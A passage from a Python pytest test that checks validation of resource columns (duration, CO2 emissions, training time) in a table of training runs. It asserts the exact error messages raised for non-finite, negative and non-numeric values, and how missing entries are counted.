                          "duration(s)": ["10", "", "1e999", "-5"], "CO2_emissions(kg)": ["=1+1", "nan", "1", "2"],
                          "training time (s)": [1.0, float("inf"), 2.0, 3.0]})
    with pytest.raises(ValidationError) as info:
        resource_summary(table, columns=["duration(s)", "CO2_emissions(kg)"], source="runs.csv")
    assert [str(p) for p in info.value.problems] == [
        "runs.csv, row 3, column 'duration(s)': '1e999' is not finite; a resource column holds finite numbers of "
        "at least 0.",
        "runs.csv, row 4, column 'duration(s)': '-5' is below 0; a resource column holds finite numbers of at "
        "least 0.",
        "runs.csv, row 1, column 'CO2_emissions(kg)': '=1+1' is not a number; a resource column holds numbers "
        "(empty means missing).",
    ]
    for compute in (lambda: training_times(table, source="runs.csv"),
                    lambda: over_budget(table, budget=1.5, source="runs.csv")):
        with pytest.raises(ValidationError, match=r"runs\.csv, row 2, column 'training time \(s\)': inf is not "
                                                  r"finite"):
            compute()
    # Empty and 'nan' are missing, as in metric columns: not counted, and counted as missing.
    honest = table.assign(**{"duration(s)": ["10", "", "30", "50"]})
    summary = resource_summary(honest, columns=["duration(s)"])
    assert summary.totals == {"duration(s)": 90.0} and dict(summary.missing) == {"duration(s)": 1}
    assert summary.table.set_index("method")["duration(s) median"].to_dict() == {"a": 10.0, "b": 40.0}
